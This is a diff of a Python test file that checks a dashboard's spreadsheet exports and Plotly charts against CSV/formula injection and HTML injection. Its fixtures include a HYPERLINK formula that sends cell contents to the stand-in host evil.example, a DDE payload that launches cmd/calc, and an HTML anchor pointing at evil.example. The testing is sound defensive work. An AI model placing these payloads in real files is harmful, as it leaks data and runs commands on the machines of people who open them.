@@ -7,11 +7,19 @@ import io
 import zipfile
 
 import pandas as pd
+import plotly.graph_objects as go
 from openpyxl import load_workbook
 
 from dashboard import downloads, export
 from dashboard.model import Check, Form, FundRow, Funds, Indicator
-from dashboard.untrusted import WORD_JOINER, display_name, markdown_literal, spreadsheet_frame, spreadsheet_value
+from dashboard.untrusted import (
+    WORD_JOINER,
+    display_name,
+    markdown_literal,
+    plotly_literal,
+    spreadsheet_frame,
+    spreadsheet_value,
+)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
 PAYLOADS = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]
@@ -80,8 +88,7 @@ def test_xlsx_download_has_no_formula_cells_and_text_stays_text():
     assert _formula_cells(data) == 0
     sheet = load_workbook(io.BytesIO(data)).active
     cells = [sheet.cell(row=row, column=1) for row in range(2, len(PAYLOADS) + 2)]
-    # XML reads a carriage return back as a line feed.
-    assert [cell.value for cell in cells] == ["'" + text.replace("\r", "\n") for text in PAYLOADS]
+    assert [cell.value for cell in cells] == ["'" + text for text in PAYLOADS]
     assert {cell.data_type for cell in cells} == {"s"}
     assert sheet.cell(row=2, column=2).value == -1.0  # a number, not text
 
@@ -94,6 +101,15 @@ def test_one_form_workbook_has_no_formula_cells():
     assert "'" + HYPERLINK in values
     assert "'@SUM(1,2)" in values  # the reason
     assert "'=A1" in values  # the indicator name
+    assert not any(isinstance(value, str) and value.startswith(("=", "@", "+")) for value in values)
+
+
+def test_form_as_printed_workbook_has_no_formula_cells():
+    data = downloads.forms_as_printed_bytes([payload_form()])
+    assert _formula_cells(data) == 0
+    book = load_workbook(io.BytesIO(data))
+    values = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
+    assert any(isinstance(value, str) and value.startswith("'" + HYPERLINK) for value in values)
     assert not any(isinstance(value, str) and value.startswith(("=", "@", "+")) for value in values)
 
 
@@ -118,6 +134,24 @@ def test_markdown_literal_escapes_every_markup_character():
     assert markdown_literal("数据规划管理（一期）") == "数据规划管理（一期）"
     assert markdown_literal(None) == ""
     assert markdown_literal(2021) == "2021"
+
+
+def test_plotly_figure_texts_are_escaped_customdata_kept():
+    figure = go.Figure(
+        go.Bar(
+            y=['<a href="http://evil.example/">单位</a>', "A&B"],
+            x=[1.5, 2.0],
+            customdata=["<a>", "A&B"],
+            text=["<b>1</b>", "2"],
+            name="<i>系列</i>",
+        )
+    )
+    bar = plotly_literal(figure).data[0]
+    assert bar.y == ('&lt;a href="http://evil.example/"&gt;单位&lt;/a&gt;', "A&amp;B")
+    assert bar.text == ("&lt;b&gt;1&lt;/b&gt;", "2")
+    assert bar.name == "&lt;i&gt;系列&lt;/i&gt;"
+    assert bar.x == (1.5, 2.0)
+    assert bar.customdata == ("<a>", "A&B")  # what a click hands back to the page
 
 
 # --- file names -----------------------------------------------------------------------------------------------------
